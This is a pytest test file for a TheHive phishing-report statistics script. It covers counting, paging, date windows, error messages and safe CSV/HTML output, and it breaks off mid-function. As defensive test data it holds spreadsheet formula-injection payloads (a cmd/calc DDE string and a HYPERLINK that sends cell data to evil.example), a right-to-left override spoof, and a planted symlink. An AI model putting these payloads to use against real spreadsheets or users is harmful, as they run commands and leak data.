"""thehive_stats.py run as an analyst runs it, against TheHive 5's and 4.x's case search over HTTPS on loopback.

The cases are generated with totals the test knows (testkit/report_cases.py): campaigns, cases without a
verdict or a record, reporters named in every tag form, older records without a time.
"""

from __future__ import annotations

import csv
import os
import pty
import re
import subprocess
from datetime import datetime, timezone
from pathlib import Path

import pytest

from testkit.report_cases import DAY, START, case, expected, generate, read_json
from testkit.thehive_api import API_KEY
from testkit.thehive_cases import CaseSearch

SCRIPT = Path(__file__).resolve().parent.parent / "PhishFeedback" / "thehive_stats.py"
VERSIONS = ("5", "4.1", "4.0")
BOB = "bob@example.org"


@pytest.mark.parametrize("version", VERSIONS)
def test_counts_cases_reports_verdicts_and_feedback_as_generated(version, thehive_https, stats):
    reports = generate(1200, seed=11)
    hive = CaseSearch(thehive_https, version, reports)
    known = expected(reports, alerts=version == "5")

    got = read_json(stats(hive.url, "--json", "--top", "5"))

    assert (got["cases"], got["reports"], got["reporters"]) == (known["cases"], known["reports"], known["reporters"])
    assert {k: v for k, v in got["verdicts"].items() if v} == dict(known["verdicts"])
    assert {m["month"]: m["cases"] for m in got["months"]} == dict(known["months"])
    feedback = got["feedback"]
    assert (feedback["answered"], feedback["unanswered"], feedback["acknowledged"]) == (
        known["answered"],
        known["unanswered"],
        known["acknowledged"],
    )
    assert (feedback["median_seconds"], feedback["p90_seconds"]) == (known["median_seconds"], known["p90_seconds"])
    assert (feedback["ack_median_seconds"], feedback["ack_p90_seconds"]) == (
        known["ack_median_seconds"],
        known["ack_p90_seconds"],
    )
    assert [(d["within"], d["reports"]) for d in feedback["distribution"]] == known["distribution"]
    assert {k: v for k, v in got["report_verdicts"].items() if v} == dict(known["report_verdicts"])
    assert {m["month"]: m["report_verdicts"] for m in got["months"]} == {
        month: dict(counts) for month, counts in known["month_report_verdicts"].items()
    }
    assert [(r["address"], r["reports"]) for r in got["top_reporters"]] == known["top"][:5]
    top = [address for address, _ in known["top"][:5]]
    assert [(r["verdicts"], r["real"]) for r in got["top_reporters"]] == [known["mixes"][a] for a in top]
    # Read page by page: more than one page asked for, none larger than the command's.
    assert len(hive.requests) >= 4


@pytest.mark.parametrize("version", VERSIONS)
def test_counts_only_the_days_asked_for_until_included(version, thehive_https, stats):
    reports = generate(600, seed=3)
    hive = CaseSearch(thehive_https, version, reports)
    since, before = START + 31 * DAY, START + 59 * DAY  # 2026-02-01 to 2026-02-28 included
    known = expected(reports, since, before)

    got = read_json(stats(hive.url, "--json", "--since", "2026-02-01", "--until", "2026-02-28"))

    assert (got["cases"], got["reports"]) == (known["cases"], known["reports"])
    assert [m["month"] for m in got["months"]] == ["2026-02"]


def test_a_month_with_no_case_is_a_month_of_zeros_in_every_form(thehive_https, stats, tmp_path):
    """A month when nothing was reported (a collector that stopped) is the figure a SOC looks for: it was left out,
    and March followed January in the tables and the chart."""
    january, march = START + 9 * DAY, START + 63 * DAY
    cases = [case(1, "Phishing", ["a@example.org"], created=january), case(2, "Spam", ["b@example.org"], created=march)]
    hive = CaseSearch(thehive_https, "5", cases)

    got = read_json(stats(hive.url, "--json"))
    stats(hive.url, "--csv", str(tmp_path / "tables"))

    assert [(m["month"], m["cases"], m["reports"]) for m in got["months"]] == [
        ("2026-01", 1, 1),
        ("2026-02", 0, 0),
        ("2026-03", 1, 1),
    ]
    assert "\n2026-02,0,0," in (tmp_path / "tables" / "months.csv").read_text(encoding="utf-8")


def test_the_months_of_the_window_asked_for_are_all_shown(thehive_https, stats):
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["a@example.org"], created=START + 40 * DAY)])

    got = read_json(stats(hive.url, "--json", "--since", "2026-01-01", "--until", "2026-03-31"))

    assert [(m["month"], m["cases"]) for m in got["months"]] == [("2026-01", 0), ("2026-02", 1), ("2026-03", 0)]


def test_a_window_that_starts_after_this_month_shows_no_month_before_it(thehive_https, stats):
    next_year = datetime.now(timezone.utc).year + 1
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["a@example.org"], created=START + 40 * DAY)])

    got = read_json(stats(hive.url, "--json", "--since", f"{next_year}-01-01", "--until", f"{next_year}-03-31"))

    assert got["cases"] == 0 and [m["month"] for m in got["months"]] == [f"{next_year}-01"]


def test_a_thehive_without_a_report_in_the_window_says_what_to_check_beside_its_zeros(thehive_https, stats):
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["a@example.org"], created=START + 40 * DAY)])

    result = stats(hive.url, "--since", "2025-01-01", "--until", "2025-03-31")

    assert result.returncode == 0, result.stderr
    assert (
        "no case created in this window (Cases created from 2025-01-01 to 2025-03-31) has a title that starts with"
        " 'Phishing report': check --title-prefix"
    ) in result.stderr


def test_a_top_list_cut_among_reporters_with_as_many_reports_says_how_many_it_left_out(thehive_https, stats):
    reporters = ["alice@example.org", "bob@example.org", "carol@example.org", "dave@example.org"]
    cases = [case(1, "Spam", reporters), case(2, "Phishing", reporters[:1])]
    hive = CaseSearch(thehive_https, "5", cases)

    got = read_json(stats(hive.url, "--json", "--top", "2"))
    text = stats(hive.url, "--top", "2").stdout

    assert [r["address"] for r in got["top_reporters"]] == ["alice@example.org", "bob@example.org"]
    assert got["top_reporters_tied_unlisted"] == 2
    assert "2 more reporter(s) have 1 report(s), as many as the last listed (--top 4 lists them)." in text


def test_the_text_and_the_csv_totals_say_which_cases_they_count(thehive_https, stats, tmp_path):
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["a@example.org"], created=START + 40 * DAY)])

    result = stats(hive.url, "--since", "2026-01-01", "--until", "2026-03-31", "--csv", str(tmp_path / "q1"))

    assert result.returncode == 0, result.stderr
    assert "period     Cases created from 2026-01-01 to 2026-03-31" in result.stdout
    totals = (tmp_path / "q1" / "totals.csv").read_text(encoding="utf-8")
    assert "period,Cases created from 2026-01-01 to 2026-03-31" in totals


@pytest.mark.parametrize("zone", ["Pacific/Auckland", "America/New_York"])
def test_a_case_counts_in_the_utc_month_of_its_creation_whatever_the_machines_time_zone(
    thehive_https, stats, monkeypatch, zone
):
    late, early = START + 30 * DAY + 23 * 3600_000, START + 31 * DAY + 1800_000  # Jan 31 23:00, Feb 1 00:30 UTC
    hive = CaseSearch(
        thehive_https,
        "5",
        [case(1, "Spam", ["a@example.org"], created=late), case(2, "Spam", ["b@example.org"], created=early)],
    )
    monkeypatch.setenv("TZ", zone)

    got = read_json(stats(hive.url, "--json"))

    assert {m["month"]: m["cases"] for m in got["months"]} == {"2026-01": 1, "2026-02": 1}


def test_a_case_from_an_alert_of_the_month_before_counts_in_the_month_it_was_made(thehive_https, stats):
    made, alerted = START + 31 * DAY + 1800_000, START + 30 * DAY + 23 * 3600_000  # Feb 1 00:30, Jan 31 23:00 UTC
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["a@example.org"], created=made, alert=alerted)])

    got = read_json(stats(hive.url, "--json"))

    assert [m["month"] for m in got["months"]] == ["2026-02"]


@pytest.mark.parametrize("version", VERSIONS)
def test_cases_a_page_repeats_after_an_import_during_the_read_are_counted_once(version, thehive_https, stats):
    reports = generate(1200, seed=11)
    hive = CaseSearch(thehive_https, version, reports)
    hive.imported_while_read = [case(-400 - n, "Spam", [f"old{n}@example.org"]) for n in range(3)]

    got = read_json(stats(hive.url, "--json"))

    assert (got["cases"], got["reports"]) == (expected(reports)["cases"], expected(reports)["reports"])


def test_the_last_day_there_is_as_until_counts_every_case(thehive_https, stats):
    reports = generate(30, seed=4)
    hive = CaseSearch(thehive_https, "5", reports)

    got = read_json(stats(hive.url, "--json", "--until", "9999-12-31"))

    assert got["cases"] == expected(reports)["cases"]


def test_a_case_whose_id_is_not_a_text_is_counted_like_the_others(thehive_https, stats):
    reports = generate(30, seed=5)
    hive = CaseSearch(thehive_https, "5", reports)
    hive.cases[0]["_id"], hive.cases[1]["_id"] = ["~1"], {"id": "~2"}

    got = read_json(stats(hive.url, "--json"))

    assert got["cases"] == expected(reports)["cases"]


@pytest.mark.parametrize("version", VERSIONS)
def test_the_recorded_time_of_each_message_comes_back_from_every_version(version, thehive_https, stats):
    created = (START + 3 * DAY) // 1000
    told = {"alice@example.org": created + 5400, "bob@example.org": created + 90000}
    acked = {"alice@example.org": created + 120}
    reports = [case(3, "Phishing", ["alice@example.org", "bob@example.org"], told=told, acked=acked)]
    hive = CaseSearch(thehive_https, version, reports)

    feedback = read_json(stats(hive.url, "--json"))["feedback"]

    assert (feedback["answered"], feedback["measured"]) == (2, 2)
    assert (feedback["median_seconds"], feedback["p90_seconds"]) == ((5400 + 90000) / 2, 90000)
    assert (feedback["acknowledged"], feedback["ack_median_seconds"]) == (1, 120)


def test_feedback_is_timed_from_the_alert_where_thehive5_says_the_case_came_from_one(thehive_https, stats):
    created = (START + 3 * DAY) // 1000
    reports = [
        case(3, "Spam", ["alice@example.org"], alert=(created - 1800) * 1000, told={"alice@example.org": created + 600})
    ]
    hive = CaseSearch(thehive_https, "5", reports)

    assert read_json(stats(hive.url, "--json"))["feedback"]["median_seconds"] == 2400


def test_older_records_count_as_answered_without_a_time(thehive_https, stats):
    reports = [
        case(1, "Legit email", ["alice@example.org", "bob@example.org"], sent=["alice@example.org"]),
        case(2, None, ["carol@example.org"]),
    ]
    hive = CaseSearch(thehive_https, "5", reports)

    feedback = read_json(stats(hive.url, "--json"))["feedback"]

    assert (feedback["answered"], feedback["unanswered"], feedback["measured"]) == (1, 1, 0)
    assert (feedback["median_seconds"], feedback["p90_seconds"]) == (None, None)


@pytest.mark.parametrize("version", VERSIONS)
def test_a_reporter_named_in_several_tag_forms_is_one_report(version, thehive_https, stats):
    forms = ["user_email:alice@example.org", 'user_email="alice@example.org"', "USER_EMAIL=Alice@Example.org"]
    campaign = [f"user_email:employee{i}@example.org" for i in range(30)]
    reports = [
        case(1, "Phishing", ["alice@example.org"], tags=[*forms, "user_email:not an address"]),
        case(2, "Phishing", [], tags=[*campaign, *campaign[:5]]),
    ]
    hive = CaseSearch(thehive_https, version, reports)

    got = read_json(stats(hive.url, "--json"))

    assert (got["cases"], got["reports"], got["reporters"]) == (2, 31, 31)
    assert got["top_reporters"][0] == {
        "address": "alice@example.org",
        "reports": 1,
        "verdicts": {"Phishing": 1},
        "real": 1,
    }


@pytest.mark.parametrize("version", VERSIONS)
def test_a_report_whose_title_carries_the_prefix_after_tags_and_markers_is_counted(version, thehive_https, stats):
    titles = {
        "[EXT] FW: Phishing report: your invoice": "Phishing",
        "[Phishing report] parcel on hold": "Spam",
        "Weekly Phishing report digest": "Spam",  # holds the prefix, but the responder would not answer it
        "Malware alert 7": "Spam",
    }
    reports = [case(n, verdict, ["alice@example.org"]) for n, verdict in enumerate(titles.values(), 1)]
    for report, title in zip(reports, titles):
        report.title = title
    hive = CaseSearch(thehive_https, version, reports)

    got = read_json(stats(hive.url, "--json"))

    assert (got["cases"], got["reports"]) == (2, 2)
    assert {k: v for k, v in got["verdicts"].items() if v} == {"Phishing": 1, "Spam": 1}


def test_the_tables_are_printed_by_default(thehive_https, stats):
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["alice@example.org"])])

    result = stats(hive.url)

    assert result.returncode == 0, result.stderr
    assert "Top reporters" in result.stdout
    assert "alice@example.org" in result.stdout.split("Top reporters")[1]


def test_csv_writes_one_file_per_table_with_no_cell_a_spreadsheet_would_run(thehive_https, stats, tmp_path):
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["=cmd@example.org", "alice@example.org"])])

    result = stats(hive.url, "--csv", str(tmp_path / "csv"))

    assert result.returncode == 0, result.stderr
    names = sorted(path.name for path in (tmp_path / "csv").iterdir())
    assert names == sorted(
        f"{n}.csv"
        for n in ("totals", "verdicts", "months", "month_reports", "feedback", "time_to_feedback", "top_reporters")
    )
    top = (tmp_path / "csv" / "top_reporters.csv").read_text()
    assert "'=cmd@example.org" in top
    assert "\n=cmd" not in top


@pytest.mark.parametrize(
    ("verdict", "split"),
    [
        ("Spam;=cmd|' /C calc'!A0", {"delimiter": ";"}),
        ("Spam;\"=cmd|' /C calc'!A0", {"delimiter": ";"}),
        ("Spam;@SUM(1+1)*cmd|' /C calc'!A0", {"delimiter": ";"}),
        ("Spam; =cmd|' /C calc'!A0", {"delimiter": ";", "skipinitialspace": True}),
        ("Spam,=cmd|' /C calc'!A0", {"quoting": csv.QUOTE_NONE}),
    ],
    ids=["bare", "quoted", "at-sign", "spaced", "comma"],
)
def test_a_verdict_holding_a_separator_puts_no_formula_in_a_cell_where_csv_is_split_on_it(
    thehive_https, stats, tmp_path, verdict, split
):
    """Excel and LibreOffice split on ';' in the French, German, Dutch and Spanish locales, LibreOffice trimming the
    spaces after it where asked; a reader that takes quotes as text splits on every ',', the file's own separator,
    within a quoted cell too."""
    hive = CaseSearch(thehive_https, "5", [case(1, verdict, ["alice@example.org"])])

    result = stats(hive.url, "--csv", str(tmp_path / "csv"))

    assert result.returncode == 0, result.stderr
    for path in (tmp_path / "csv").iterdir():
        for row in csv.reader(path.open(encoding="utf-8"), **split):
            assert not [cell for cell in row if cell.startswith(("=", "+", "@", "-")) and cell != "-"], path.name


def test_the_csv_tables_and_the_pages_figures_are_the_json_counts(thehive_https, stats, tmp_path):
    """What a SOC manager forwards (a spreadsheet, the page's cards) says what the JSON says, verdict by verdict."""
    hive = CaseSearch(thehive_https, "5", generate(400, seed=5))
    folder = tmp_path / "csv"

    got = read_json(stats(hive.url, "--json", "--csv", str(folder), "--html", str(tmp_path / "page.html")))

    def rows(name: str) -> tuple[list[str], list[list[str]]]:
        header, *body = csv.reader((folder / f"{name}.csv").open(encoding="utf-8"))
        return header, body

    header, body = rows("verdicts")
    assert {verdict: (int(c), int(r)) for verdict, c, r in body} == {
        v: (got["verdicts"][v], got["report_verdicts"][v]) for v in got["verdicts"]
    }
    for name, leading, total, counts in (
        ("months", 3, "cases", "verdicts"),
        ("month_reports", 2, "reports", "report_verdicts"),
    ):
        header, body = rows(name)
        verdicts = header[leading:]
        for row, month in zip(body, got["months"], strict=True):
            cells = dict(zip(verdicts, map(int, row[leading:])))
            assert (row[0], int(row[header.index(total)])) == (month["month"], month[total])
            assert cells == {v: month[counts].get(v, 0) for v in verdicts} and sum(cells.values()) == month[total]
    assert rows("time_to_feedback")[1] == [[d["within"], str(d["reports"])] for d in got["feedback"]["distribution"]]
    cards = dict(re.findall(r"<dt>([^<]*)</dt><dd>([^<]*)</dd>", (tmp_path / "page.html").read_text(encoding="utf-8")))
    feedback = got["feedback"]
    shown = ("Cases", "Reports", "Reporters", "Reports with a verdict", "Answered", "Not yet answered")
    assert {k: cards[k] for k in shown} == {
        "Cases": str(got["cases"]),
        "Reports": str(got["reports"]),
        "Reporters": str(got["reporters"]),
        "Reports with a verdict": str(feedback["answered"] + feedback["unanswered"]),
        "Answered": str(feedback["answered"]),
        "Not yet answered": str(feedback["unanswered"]),
    }
    assert feedback["answered"] != feedback["unanswered"]


def test_the_json_totals_name_every_verdict_even_one_no_case_has(thehive_https, stats):
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["alice@example.org"])])

    got = read_json(stats(hive.url, "--json"))

    assert got["verdicts"] == {"Phishing": 0, "Spam": 1, "Legit email": 0, "Simulation": 0, "none": 0}
    assert got["report_verdicts"] == {"Phishing": 0, "Spam": 1, "Legit email": 0, "Simulation": 0, "none": 0}


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_verdict_that_reads_as_a_formula_is_quoted_in_the_columns_it_heads(thehive_https, stats, tmp_path, start):
    formula = start + 'HYPERLINK("http://evil.example/?"&A2,"Click")'
    hive = CaseSearch(thehive_https, "5", [case(1, formula, ["alice@example.org"])])

    result = stats(hive.url, "--csv", str(tmp_path / "csv"))

    assert result.returncode == 0, result.stderr
    for name in ("months", "month_reports", "top_reporters"):
        [header, *_] = list(csv.reader((tmp_path / "csv" / f"{name}.csv").open(encoding="utf-8")))
        assert f"'{formula}" in header and formula not in header
    # Nothing was measured: the placeholder stays as it is printed.
    feedback = (tmp_path / "csv" / "feedback.csv").read_text(encoding="utf-8")
    assert '"time to the verdict, median",-,\n' in feedback and "'-" not in feedback


def test_a_verdict_value_shows_no_character_that_reorders_what_is_shown(thehive_https, stats, tmp_path):
    spoofed = "Legit\u202elanruoj"
    hive = CaseSearch(thehive_https, "5", [case(1, spoofed, ["alice@example.org"])])

    result = stats(hive.url, "--json", "--html", str(tmp_path / "page.html"), "--csv", str(tmp_path / "csv"))

    assert read_json(result)["verdicts"]["Legitlanruoj"] == 1
    written = [path.read_text(encoding="utf-8") for path in (tmp_path / "page.html", *(tmp_path / "csv").iterdir())]
    for shown in (result.stdout, *written):
        assert "\u202e" not in shown and "u202e" not in shown


def test_the_key_echoed_as_a_reporter_address_is_refused_as_the_responder_refuses_it_and_shown_nowhere(
    thehive_https, stats, tmp_path
):
    """A TheHive (or a proxy) that echoes the key into a case's reporter tag, in the key's own letters."""
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", [f"{API_KEY}@example.org"]), case(2, "Spam", [BOB])])

    result = stats(hive.url, "--json", "--html", str(tmp_path / "page.html"), "--csv", str(tmp_path / "csv"))

    assert [reporter["address"] for reporter in read_json(result)["top_reporters"]] == [BOB]
    written = [path.read_text(encoding="utf-8") for path in (tmp_path / "page.html", *(tmp_path / "csv").iterdir())]
    for shown in (result.stdout, result.stderr, *written):
        assert API_KEY.lower() not in shown.lower()


def test_the_json_shows_a_verdict_holding_an_invisible_character_as_an_escape(thehive_https, stats):
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam\u200b", ["alice@example.org"])])

    result = stats(hive.url, "--json")

    assert result.stdout.isascii() and '"Spam\\u200b": 1' in result.stdout
    assert read_json(result)["verdicts"]["Spam\u200b"] == 1


def test_the_tables_line_up_as_the_terminal_shows_a_verdict_it_escapes(thehive_https, stats):
    invisible = "Legit\u200bemail"  # a zero-width space, shown as \u200b
    hive = CaseSearch(thehive_https, "5", [case(1, invisible, ["alice@example.org"]), case(2, "Spam", ["b@x.org"])])

    result = stats(hive.url)

    assert result.returncode == 0, result.stderr
    assert "Legit\\u200bemail" in result.stdout
    for table in result.stdout.strip().split("\n\n"):
        header, rule, *rows = table.split("\n")[2:]
        if rows != ["(none)"]:
            gaps = [i for i, c in enumerate(rule) if c == " "]  # between the columns
            for line in (header, *rows):  # a line ends where its last cell with text does
                assert len(line) <= len(rule) and all(line.ljust(len(rule))[i] == " " for i in gaps), table


def test_a_negative_top_is_refused_before_any_call(thehive_https, stats):
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["alice@example.org"])])

    result = stats(hive.url, "--top", "-3")

    assert result.returncode == 2
    assert "is no count" in result.stderr and hive.requests == []


def test_a_custom_field_thehive_lacks_is_said_with_the_names_that_come_close(thehive_https, stats):
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["alice@example.org"])])

    result = stats(hive.url, "--custom-field", "phishfeedbak")

    assert result.returncode == 1
    assert "has no custom field 'phishfeedbak'" in result.stderr
    assert "'phishFeedback'" in result.stderr
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize("status", [401, 403])
def test_a_refused_key_names_the_key_and_the_permission_it_needs(status, thehive_https, stats):
    hive = CaseSearch(thehive_https, "5", [])
    hive.replaced["/api/v1/customField"] = (status, b'{"type": "AuthenticationError", "message": "no"}')

    result = stats(hive.url)

    assert result.returncode == 1
    assert f"refused the API key (HTTP {status})" in result.stderr
    assert "THEHIVE_APIKEY" in result.stderr and "read the cases" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_an_unknown_operator_is_told_in_thehives_own_words(thehive_https, stats):
    hive = CaseSearch(thehive_https, "5", [])
    hive.unknown.add("_like")

    result = stats(hive.url)

    assert result.returncode == 1
    assert "HTTP 400" in result.stderr and "unknown operator _like" in result.stderr


@pytest.mark.parametrize(
    "version, fault, said, asked",
    [
        ("4.1", "ignore_range", "ignores the range asked for", 2),  # the count, one page
        ("5", "same_page", "answered the same page of cases again", 3),  # the count, two pages
    ],
)
def test_a_thehive_that_does_not_page_is_stopped_with_a_sentence(version, fault, said, asked, thehive_https, stats):
    hive = CaseSearch(thehive_https, version, generate(1300, seed=5))
    setattr(hive, fault, True)

    result = stats(hive.url)

    assert result.returncode == 1
    assert said in result.stderr
    assert len(hive.requests) == asked


@pytest.mark.parametrize("version", ["4.1", "5"])
def test_a_count_past_what_one_run_reads_is_refused_before_any_page(version, thehive_https, stats):
    """A TheHive whose count is wrong (10**15) and that answers fresh pages for ever would be read, and its reporters
    kept in memory, until --time-limit."""
    hive = CaseSearch(thehive_https, version, generate(20, seed=3))
    hive.count_offset = 10**15

    result = stats(hive.url)

    assert result.returncode == 1 and result.stdout == ""
    assert result.stderr.startswith(f"thehive_stats: TheHive at {hive.url} counted 1,000,000,000,000,0")
    assert result.stderr.endswith(
        " phishing-report cases, more than the 10,000,000 one run reads: narrow --since/--until. Nothing was counted.\n"
    )
    assert len(hive.requests) == 1  # the count alone


def test_a_single_space_as_title_prefix_counts_every_case_as_the_responder_answers_every_title(thehive_https, stats):
    reports = generate(200, seed=9)
    hive = CaseSearch(thehive_https, "5", reports)

    got = read_json(stats(hive.url, "--json", "--title-prefix", " "))

    assert got["cases"] == expected(reports, prefix="")["cases"] == len(reports)


@pytest.mark.parametrize(
    "fault, value",
    [("page_cap", 100), ("unavailable", 1), ("count_offset", 5)],
    # Counted more than it holds: cases deleted between the count and the last page, which comes back empty.
    ids=["pages-capped-at-100", "a-passing-503-on-a-page", "counted-more-than-it-holds"],
)
def test_a_thehive_that_answers_its_pages_unevenly_is_read_to_its_count(thehive_https, stats, fault, value):
    reports = generate(1300, seed=7)
    hive = CaseSearch(thehive_https, "5", reports)
    setattr(hive, fault, value)

    got = read_json(stats(hive.url, "--json"))

    assert got["cases"] == expected(reports)["cases"]


def test_cases_holding_whole_mails_are_read_in_smaller_pages(thehive_https, stats):
    # 600 cases of 40 kB each: a page of 500 is over the 16 MB the command reads of one answer.
    reports = generate(600, seed=8)
    hive = CaseSearch(thehive_https, "5", reports)
    for found in hive.cases:
        found["description"] = "Received: from mail.example.org\n" * 1250

    got = read_json(stats(hive.url, "--json"))

    assert got["cases"] == expected(reports)["cases"]


def test_a_thehive_that_repeats_a_page_of_cases_numbered_not_named_is_stopped(thehive_https, stats):
    hive = CaseSearch(thehive_https, "5", generate(1300, seed=5))
    for number, found in enumerate(hive.cases):
        found["_id"] = number
    hive.same_page = True

    result = stats(hive.url)

    assert result.returncode == 1
    assert "answered the same page of cases again" in result.stderr


def test_pages_are_bounded_by_thehives_own_count(thehive_https, stats):
    reports = generate(2600, seed=5)
    hive = CaseSearch(thehive_https, "5", reports)
    hive.count_offset = 600 - expected(reports)["cases"]  # it counts 600: two pages, and two for cases made meanwhile

    result = stats(hive.url)

    assert result.returncode == 1
    assert "kept answering pages past them" in result.stderr
    assert len(hive.requests) == 1 + 4


@pytest.mark.parametrize(
    "body, said",
    [
        (b"[" * 40 + b"]" * 40, "nested deeper than 32 levels"),
        (b'{"cases": []}', "did not answer a page of cases with a list"),
        (b"<html>Bad gateway</html>", "answered something other than JSON (HTTP 200). Check that --url points"),
    ],
    ids=["deep", "object", "html"],
)
def test_a_page_thehive_should_not_send_is_refused_in_one_sentence(body, said, thehive_https, stats):
    hive = CaseSearch(thehive_https, "5", [])
    hive.pages = (200, body)

    result = stats(hive.url)

    assert result.returncode == 1
    assert said in result.stderr
    assert "Traceback" not in result.stderr


def test_cases_of_the_wrong_types_are_passed_over(thehive_https, stats):
    good = case(1, "Spam", ["alice@example.org"])
    hive = CaseSearch(thehive_https, "5", [good])
    hive.cases += [
        "a string",
        {"_id": "~1", "title": 42, "_createdAt": START},
        {"_id": "~2", "title": "Phishing report: x", "_createdAt": "yesterday", "tags": "user_email:bob@example.org"},
        {"_id": "~3", "title": "Phishing report: y", "_createdAt": START, "tags": [7, None], "customFields": "Spam"},
    ]

    got = read_json(stats(hive.url, "--json"))

    assert (got["cases"], got["reports"]) == (2, 1)
    assert got["verdicts"]["none"] == 1


def test_an_answer_larger_than_the_bound_is_refused(thehive_https, stats):
    hive = CaseSearch(thehive_https, "5", [])
    hive.pages = (200, b"[" + b'"x",' * (5 << 20) + b'"x"]')

    result = stats(hive.url)

    assert result.returncode == 1
    assert "more than 16 MB" in result.stderr


def test_an_untrusted_certificate_is_refused(thehive_https, stats):
    hive = CaseSearch(thehive_https, "5", [])

    result = stats(hive.url, trusted=False)

    assert result.returncode == 1
    assert "The certificate of TheHive at" in result.stderr and "could not be verified" in result.stderr
    assert "--cacerts" in result.stderr


def test_plain_http_is_refused_to_another_machine(stats):
    result = stats("http://thehive.example.org")

    assert result.returncode == 1
    assert "over http:// to thehive.example.org, which is not this machine" in result.stderr


@pytest.mark.parametrize(
    "since, said", [("2026-13-01", "--since takes a day as YYYY-MM-DD"), ("2026-03-01", "comes before")]
)
def test_a_window_that_is_no_window_is_said(since, said, stats):
    result = stats("https://127.0.0.1:9", "--since", since, "--until", "2026-02-01")

    assert result.returncode == 1
    assert said in result.stderr


def test_html_writes_the_page_beside_the_tables(thehive_https, stats, tmp_path):
    hive = CaseSearch(thehive_https, "4.1", [case(1, "Simulation", ["alice@example.org"])])

    result = stats(hive.url, "--html", str(tmp_path / "report.html"), "--since", "2026-01-01")

    assert result.returncode == 0, result.stderr
    html = (tmp_path / "report.html").read_text()
    assert "Cases created from 2026-01-01" in html and html.count("<figure") == 2


def test_a_page_that_cannot_be_written_is_said_in_one_sentence(thehive_https, stats, tmp_path):
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["alice@example.org"])])

    result = stats(hive.url, "--html", str(tmp_path / "missing" / "report.html"))

    assert result.returncode == 1
    assert hive.requests == []  # said before the read, which may take an hour
    assert (
        result.stderr
        == f"thehive_stats: {tmp_path / 'missing' / 'report.html'} cannot be written (No such file or directory).\n"
    )


@pytest.mark.parametrize(
    ("option", "under"),
    [("--csv", ()), ("--csv", ("2026",)), ("--html", ("page.html",)), ("--html", ("2026", "page.html"))],
    ids=["csv-the-file", "csv-a-folder-under-it", "html-in-it", "html-in-a-folder-under-it"],
)
def test_a_file_where_a_folder_must_be_is_said_to_be_no_folder_before_the_read(
    thehive_https, stats, tmp_path, option, under
):
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["alice@example.org"])])
    (tmp_path / "figures").write_text("an earlier export")
    path = tmp_path.joinpath("figures", *under)

    result = stats(hive.url, option, str(path))

    assert result.returncode == 1
    assert hive.requests == []
    assert result.stderr == f"thehive_stats: {path} cannot be written (Not a directory).\n"


@pytest.mark.parametrize(
    ("folder", "kept"),
    [("totals.csv", "verdicts.csv"), ("top_reporters.csv", "totals.csv")],
    ids=["the-first-file", "the-last-file"],
)
def test_a_csv_file_that_cannot_be_written_after_the_read_leaves_every_file_as_it_was_and_prints_the_tables(
    thehive_https, stats, tmp_path, folder, kept
):
    """The folder takes files, so the check before the read passes; one of its tables is a folder of its own. The
    other tables of the run before stay as they were, not half replaced, whichever is written last, and an hour's read
    is not lost."""
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["alice@example.org"])])
    (tmp_path / "csv" / folder).mkdir(parents=True)
    (tmp_path / "csv" / kept).write_text("the run before\n")

    result = stats(hive.url, "--csv", str(tmp_path / "csv"))

    assert result.returncode == 1
    assert result.stderr == (
        f"thehive_stats: {tmp_path / 'csv' / folder} cannot be written (Is a directory), so none of the files"
        " was written.\n"
    )
    assert sorted(path.name for path in (tmp_path / "csv").iterdir()) == sorted([folder, kept])
    assert (tmp_path / "csv" / kept).read_text() == "the run before\n"
    assert result.stdout.startswith("Totals\n") and "Spam" in result.stdout


@pytest.mark.parametrize("option", ["--csv", "--html"])
def test_a_link_planted_where_a_file_goes_is_replaced_never_followed(thehive_https, stats, tmp_path, option):
    """A folder others may write in (/tmp/stats): the link would have the command overwrite, with its user's rights,
    the file it names."""
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["alice@example.org"])])
    folder = tmp_path / "shared"
    folder.mkdir(mode=0o777)
    victim = tmp_path / "victim"
    victim.write_text("the admin's own file\n")
    planted = folder / ("totals.csv" if option == "--csv" else "report.html")
    planted.symlink_to(victim)

    result = stats(hive.url, option, str(folder if option == "--csv" else planted))

    assert result.returncode == 0, result.stderr
    assert victim.read_text() == "the admin's own file\n"
    assert not planted.is_symlink() and planted.stat().st_size > 0


def test_the_files_name_reporters_and_are_readable_by_their_owner_alone(thehive_https, stats, tmp_path):
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["alice@example.org"])])

    result = stats(hive.url, "--csv", str(tmp_path / "csv"), "--html", str(tmp_path / "report.html"))

    assert result.returncode == 0, result.stderr
    written = [tmp_path / "report.html", *(tmp_path / "csv").iterdir()]
    assert len(written) == 8 and "alice@example.org" in (tmp_path / "csv" / "top_reporters.csv").read_text()
    assert {oct(path.stat().st_mode & 0o777) for path in written} == {"0o600"}
    assert oct((tmp_path / "csv").stat().st_mode & 0o777) == "0o700"


@pytest.mark.parametrize(
    ("window", "said"),
    [
        ((), "All cases"),
        (("--since", "2026-01-01"), "Cases created from 2026-01-01"),
        (("--until", "2026-12-31"), "Cases created up to 2026-12-31"),
        (("--since", "2026-01-01", "--until", "2026-12-31"), "Cases created from 2026-01-01 to 2026-12-31"),
    ],
    ids=["everything", "since", "until", "both"],
)
def test_the_page_says_which_cases_it_counts(thehive_https, stats, tmp_path, window, said):
    hive = CaseSearch(thehive_https, "5", [case(1, "Spam", ["alice@example.org"])])

    result = stats(hive.url, "--html", str(tmp_path / "report.html"), *window)

    assert result.returncode == 0, result.stderr
    assert f"{said}</" in (tmp_path / "report.html").read_text(encoding="utf-8")


def test_a_reader_that_stops_reading_the_output_is_no_error(thehive_https, thehive_ca):
